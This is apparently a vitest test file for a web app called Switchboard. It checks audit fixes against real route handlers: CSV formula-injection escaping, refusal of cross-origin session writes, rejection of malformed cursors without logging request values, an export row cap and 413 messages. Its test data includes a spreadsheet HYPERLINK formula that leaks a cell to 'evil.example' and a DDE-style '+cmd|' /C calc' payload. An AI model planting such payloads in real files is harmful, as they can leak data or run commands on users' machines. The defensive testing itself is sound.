import { sql } from "drizzle-orm";
import Papa from "papaparse";
import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from "vitest";
import type { Db } from "@/db";
import { queryRows } from "@/db";
import { ingestEvents } from "@/db/queries/events";
import { type TestDatabase, openTestDatabase } from "@/db/testing";
import type { UserContext } from "@/lib/auth/context";
import { isFormula } from "@/lib/csv";
import { dashboardCsv } from "@/lib/dashboard/csv";
import { errorReportCsv } from "@/lib/import/report";
import { EXPORT_ROW_LIMIT } from "@/lib/metrics/params";
import { event, makeApiKey, makeUser, makeWorkspace } from "../factories";
import { call, useConnection } from "../http";

/*
 * Issue 11, findings 4 (CSV formula injection), 8 (cookie writes from another origin), 10 (500s
 * and logged parameters for bad input), 11 (the journeys export without a row cap) and the 413
 * message of 12, each through the real route handlers on a real database. The signed-in user is
 * stubbed, as in test/config-roles.test.ts; everything after it is the real code.
 */
const session = vi.hoisted(() => ({ current: null as unknown }));
vi.mock("@/lib/auth/session", () => ({ auth: async () => session.current }));
vi.mock("next/cache", () => ({ revalidatePath: () => {} }));

const { apiRoute } = await import("@/lib/api/route");
const journeys = await import("@/app/api/v1/journeys/route");
const funnel = await import("@/app/api/v1/metrics/funnel/route");
const templates = await import("@/app/api/v1/sms-templates/route");
const templateItem = await import("@/app/api/v1/sms-templates/[id]/route");
const templatePublish = await import("@/app/api/v1/sms-templates/[id]/publish/route");
const events = await import("@/app/api/v1/events/route");
const settings = await import("@/app/api/v1/settings/route");

let database: TestDatabase;
let db: Db;
let workspaceId: string;
let reader: string;
let writer: string;
let supervisor: UserContext;

const FORMULA_CUSTOMER = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")\n';
const FORMULA_JOURNEY = "  +SUM(1,2)";

beforeAll(async () => {
  database = await openTestDatabase();
  db = database.connection.db;
  useConnection(database.connection);
  workspaceId = (await makeWorkspace(db)).id;
  reader = await makeApiKey(db, workspaceId, ["metrics:read"]);
  writer = await makeApiKey(db, workspaceId, ["config:read", "config:write", "events:write", "settings:write"]);
  const user = await makeUser(db, workspaceId, "supervisor", "supervisor@hardening.test");
  supervisor = {
    kind: "user",
    userId: user.id,
    email: user.email,
    name: "Supervisor",
    workspaceId,
    workspaceName: "Hardening",
    role: "supervisor",
    memberships: [{ workspaceId, workspaceName: "Hardening", role: "supervisor" }],
  } as UserContext;
  await ingestEvents(db, workspaceId, [
    event({ id: "formula-1", type: "offer.shown", occurredAt: "2026-04-01T10:00:00Z", journey: FORMULA_JOURNEY, customer: FORMULA_CUSTOMER, point: "sms_link" }),
    event({ id: "formula-2", type: "chat.started", occurredAt: "2026-04-01T10:01:00Z", journey: FORMULA_JOURNEY, customer: FORMULA_CUSTOMER, callType: "card_arrival" }),
    ...["a", "b", "c"].map((name, i) => event({ id: `plain-${name}`, type: "offer.shown", occurredAt: `2026-04-02T1${i}:00:00Z`, journey: `plain-${name}`, customer: "c1" })),
  ]);
});
afterAll(() => database.cleanup());
afterEach(() => {
  session.current = null;
  vi.restoreAllMocks();
  vi.unstubAllEnvs();
});

const csvCells = (text: string) => Papa.parse<string[]>(text, { delimiter: ",", newline: "\r\n", skipEmptyLines: true }).data;

describe("finding 4: no CSV cell a spreadsheet would evaluate", () => {
  it("escapes a customer '=HYPERLINK(…)\\n' and a journey '  +SUM(1,2)' in the journeys CSV", async () => {
    const response = await call(journeys.GET, "GET", "/api/v1/journeys?from=2026-04-01&to=2026-04-01", { key: reader, headers: { accept: "text/csv" } });
    expect(response.status).toBe(200);
    const [header, row, ...rest] = csvCells(response.text);
    expect(rest).toEqual([]);
    expect(row[header.indexOf("customer")]).toBe(`'${FORMULA_CUSTOMER}`);
    expect(row[header.indexOf("journey")]).toBe(`'${FORMULA_JOURNEY}`);
    for (const cell of row) expect(isFormula(cell)).toBe(false);
  });

  it("escapes the dashboards' downloads and the import's error report the same way", async () => {
    const dashboard = csvCells(await dashboardCsv(["callType", "resolved"], [["\t=1+1", 3], ["@SUM(A1)\n", -2]]));
    expect(dashboard).toEqual([["callType", "resolved"], ["'\t=1+1", "3"], ["'@SUM(A1)\n", "-2"]]);
    const report = Papa.parse<string[]>(errorReportCsv([{ row: 2, column: " =col", field: "customer", message: "is empty", value: "\n+cmd|' /C calc'!A0" }]), { delimiter: "," }).data;
    expect(report[1]).toEqual(["2", "' =col", "customer", "is empty", "'\n+cmd|' /C calc'!A0"]);
  });
});

describe("finding 8: writes with the session cookie only from the app's own origin", () => {
  async function draftTemplate() {
    const created = await call(templates.POST, "POST", "/api/v1/sms-templates", {
      key: writer,
      body: { name: `Origin ${Math.random()}`, locale: "en-US", purpose: "other", body: "Hello {{first_name}}" },
    });
    expect(created.status).toBe(201);
    return created.json.id as string;
  }
  const publishedVersion = async (id: string) =>
    (await call(templateItem.GET, "GET", `/api/v1/sms-templates/${id}`, { key: writer, params: { id } })).json.publishedVersion;

  it.each([
    ["from another site", { "sec-fetch-site": "cross-site" }],
    ["from another origin of the same site", { "sec-fetch-site": "same-site" }],
    ["typed or bookmarked (no initiator)", { "sec-fetch-site": "none" }],
    ["with another Origin and no Sec-Fetch-Site", { origin: "https://switchboard.example.com.evil.example" }],
    ["with Origin null", { origin: "null" }],
    ["with neither header", {}],
  ])("refuses a bodiless publish %s with 403 and changes nothing", async (_, headers) => {
    const id = await draftTemplate();
    session.current = supervisor;
    const response = await call(templatePublish.POST, "POST", `/api/v1/sms-templates/${id}/publish`, { headers, sameOrigin: false, params: { id } });
    expect(response.status).toBe(403);
    expect(response.json.error).toMatchObject({ code: "forbidden", message: expect.stringContaining("not sent from Switchboard's own pages") });
    expect(await publishedVersion(id)).toBeNull();
  });

  it("refuses PUT and DELETE from another site too, and still answers reads", async () => {
    const id = await draftTemplate();
    session.current = supervisor;
    const crossSite = { headers: { "sec-fetch-site": "cross-site" }, sameOrigin: false, params: { id } };
    const put = await call(templateItem.PUT, "PUT", `/api/v1/sms-templates/${id}`, { ...crossSite, body: { version: 1, name: "Renamed", locale: "en-US", purpose: "other", body: "Hi" } });
    expect(put.status).toBe(403);
    expect((await call(templateItem.DELETE, "DELETE", `/api/v1/sms-templates/${id}`, crossSite)).status).toBe(403);
    const read = await call(templateItem.GET, "GET", `/api/v1/sms-templates/${id}`, crossSite);
    expect(read.status).toBe(200);
    expect(read.json).toMatchObject({ name: expect.stringMatching(/^Origin /), version: 1 });
  });

  it("accepts the app's own pages: Sec-Fetch-Site same-origin, or an Origin equal to the app's", async () => {
    session.current = supervisor;
    const first = await draftTemplate();
    expect((await call(templatePublish.POST, "POST", `/api/v1/sms-templates/${first}/publish`, { params: { id: first } })).status).toBe(200);
    expect(await publishedVersion(first)).toBe(1);

    const second = await draftTemplate();
    const sameOrigin = { headers: { origin: "http://localhost" }, sameOrigin: false, params: { id: second } };
    expect((await call(templatePublish.POST, "POST", `/api/v1/sms-templates/${second}/publish`, sameOrigin)).status).toBe(200);

    // Behind a proxy the app's origin is NEXTAUTH_URL's, not the request's.
    vi.stubEnv("NEXTAUTH_URL", "https://switchboard.example.com/");
    const third = await draftTemplate();
    const asProxied = (origin: string) => ({ headers: { origin }, sameOrigin: false, params: { id: third } });
    expect((await call(templatePublish.POST, "POST", `/api/v1/sms-templates/${third}/publish`, asProxied("http://localhost"))).status).toBe(403);
    expect((await call(templatePublish.POST, "POST", `/api/v1/sms-templates/${third}/publish`, asProxied("https://switchboard.example.com"))).status).toBe(200);
  });

  it("leaves API keys alone: a key's write is judged by its scope, whatever the headers", async () => {
    const id = await draftTemplate();
    const response = await call(templatePublish.POST, "POST", `/api/v1/sms-templates/${id}/publish`, { key: writer, headers: { "sec-fetch-site": "cross-site" }, params: { id } });
    expect(response.status).toBe(200);
  });
});

describe("finding 10: bad cursors are a 400, and error logs hold no request values", () => {
  const cursorOf = (value: unknown) => Buffer.from(JSON.stringify(value)).toString("base64url");
  const list = (cursor: string, accept = "application/json") =>
    call(journeys.GET, "GET", `/api/v1/journeys?from=2026-04-01&to=2026-04-30&cursor=${cursor}`, { key: reader, headers: { accept } });

  it.each([
    ["a number for a time", ["1", "x"]],
    ["U+0000 in the journey", ["2026-04-01T10:00:00.000Z", "a\u0000b"]],
    ["a journey longer than 128", ["2026-04-01T10:00:00.000Z", "j".repeat(129)]],
    ["an empty journey", ["2026-04-01T10:00:00.000Z", ""]],
    ["a lone surrogate", ["2026-04-01T10:00:00.000Z", "\ud800"]],
    ["year 0", ["0000-01-01T00:00:00Z", "x"]],
    ["a time without an offset", ["2026-04-01T10:00:00", "x"]],
    ["a non-string time", [0, "x"]],
    ["three items", ["2026-04-01T10:00:00.000Z", "x", "y"]],
    ["an object", { at: "2026-04-01T10:00:00.000Z" }],
  ])("refuses a cursor with %s (JSON and CSV) without logging an error", async (_, value) => {
    const logged = vi.spyOn(console, "error").mockImplementation(() => {});
    for (const accept of ["application/json", "text/csv"]) {
      const response = await list(cursorOf(value), accept);
      expect(response.status).toBe(400);
      expect(response.json.error).toMatchObject({ code: "malformed", message: "The cursor is not one this API gave out." });
    }
    expect(await list("not base64 json!")).toMatchObject({ status: 400 });
    expect(logged).not.toHaveBeenCalled();
  });

  it("still follows the cursors it gives out", async () => {
    const first = await call(journeys.GET, "GET", "/api/v1/journeys?from=2026-04-01&to=2026-04-30&limit=2", { key: reader });
    expect(first.json.items.map((item: { journey: string }) => item.journey)).toEqual([FORMULA_JOURNEY, "plain-a"]);
    const second = await list(first.json.nextCursor);
    expect(second.status).toBe(200);
    expect(second.json.items.map((item: { journey: string }) => item.journey)).toEqual(["plain-b", "plain-c"]);
  });

  it("logs an unexpected failure with the route, method and SQLSTATE, never the query's parameters", async () => {
    const secret = "caller-supplied-4f9a";
    const failing = apiRoute("metrics:read", async ({ db }) => queryRows(db, sql`select ${secret}::timestamptz as at`));
    const logged = vi.spyOn(console, "error").mockImplementation(() => {});
    const response = await call(failing, "GET", "/api/v1/example?cursor=x", { key: reader });
    expect(response.status).toBe(500);
    expect(response.text).not.toContain(secret);
    expect(logged).toHaveBeenCalledTimes(1);
    const line = logged.mock.calls[0].map(String).join(" ");
    expect(line).toContain("GET /api/v1/example");
    expect(line).toContain("22007");
    expect(line).not.toContain(secret);
    expect(line).not.toContain("select");
  });
});

describe("finding 11: the journeys CSV export is capped, paged and lets other reads through", () => {
  const DAY_OVER = "2026-06-01";
  const DAY_PAGED = "2026-05-01";
  const PAGED = 2_500;

  beforeAll(async () => {
    const offers = (day: string, prefix: string, n: number) =>
      Array.from({ length: n }, (_, i) =>
        event({ id: `${prefix}${i}`, type: "offer.shown", occurredAt: new Date(Date.parse(`${day}T00:00:00Z`) + i * 1000).toISOString(), journey: `${prefix}${i}`, customer: `c${i % 97}`, point: "ivr_offer" }),
      );
    const many = offers(DAY_OVER, "over-", EXPORT_ROW_LIMIT + 1);
    for (let start = 0; start < many.length; start += 5_000) await ingestEvents(db, workspaceId, many.slice(start, start + 5_000));
    await ingestEvents(db, workspaceId, offers(DAY_PAGED, "paged-", PAGED));
    // The first read derives the journeys and their rollups: done here, within this hook's time.
    expect((await call(journeys.GET, "GET", `/api/v1/journeys?from=${DAY_PAGED}&to=${DAY_OVER}&limit=1`, { key: reader })).status).toBe(200);
  }, 300_000);

  it(`refuses, before streaming, an export of more than ${EXPORT_ROW_LIMIT} journeys with a message the page shows`, async () => {
    const response = await call(journeys.GET, "GET", `/api/v1/journeys?from=${DAY_OVER}&to=${DAY_OVER}`, { key: reader, headers: { accept: "text/csv" } });
    expect(response.status).toBe(422);
    expect(response.json.error).toMatchObject({
      code: "too_many_rows",
      message: "This export would hold 50,001 journeys; one CSV holds at most 50,000. Choose a shorter period or narrow the filters.",
    });
    // The paged JSON list still reaches every one of them.
    const page = await call(journeys.GET, "GET", `/api/v1/journeys?from=${DAY_OVER}&to=${DAY_OVER}&limit=1`, { key: reader });
    expect(page.json.total).toBe(EXPORT_ROW_LIMIT + 1);
  });

  it("streams an export over several pages: every journey once, in order, with its total in a header", async () => {
    const response = await call(journeys.GET, "GET", `/api/v1/journeys?from=${DAY_PAGED}&to=${DAY_PAGED}`, { key: reader, headers: { accept: "text/csv" } });
    expect(response.status).toBe(200);
    expect(response.headers.get("x-switchboard-total")).toBe(String(PAGED));
    const [header, ...rows] = csvCells(response.text);
    expect(header[0]).toBe("journey");
    expect(rows.map((row) => row[0])).toEqual(Array.from({ length: PAGED }, (_, i) => `paged-${i}`));
  });

  it("answers another read while an export is open", async () => {
    const export_ = await journeys.GET(
      new (await import("next/server")).NextRequest(`http://localhost/api/v1/journeys?from=${DAY_PAGED}&to=${DAY_PAGED}`, { headers: { accept: "text/csv", authorization: `Bearer ${reader}` } }),
      { params: Promise.resolve({}) },
    );
    const reader_ = export_.body!.getReader();
    const first = await reader_.read();
    expect(new TextDecoder().decode(first.value)).toMatch(/^journey,/);
    const meanwhile = await call(funnel.GET, "GET", `/api/v1/metrics/funnel?from=${DAY_PAGED}&to=${DAY_PAGED}`, { key: reader });
    expect(meanwhile.status).toBe(200);
    let rows = 0;
    for (let chunk = await reader_.read(); !chunk.done; chunk = await reader_.read()) rows += new TextDecoder().decode(chunk.value).split("\r\n").length - 1;
    expect(rows).toBe(PAGED);
  });
});

describe("finding 12: a 413 names the limit in units people read", () => {
  it.each([
    ["a configuration body", templates.POST, "/api/v1/sms-templates", 64 * 1024, "The body is larger than 64 KB."],
    ["a settings body", settings.PATCH, "/api/v1/settings", 256 * 1024, "The body is larger than 256 KB."],
    ["an events batch", events.POST, "/api/v1/events", 5 * 1024 * 1024, "The body is larger than 5 MB."],
  ])("says so for %s", async (_, handler, path, limit, message) => {
    const method = path === "/api/v1/settings" ? "PATCH" : "POST";
    const response = await call(handler, method, path, { key: writer, rawBody: JSON.stringify({ padding: "x".repeat(limit) }) });
    expect(response.status).toBe(413);
    expect(response.json.error).toEqual({ code: "too_large", message });
  });
});
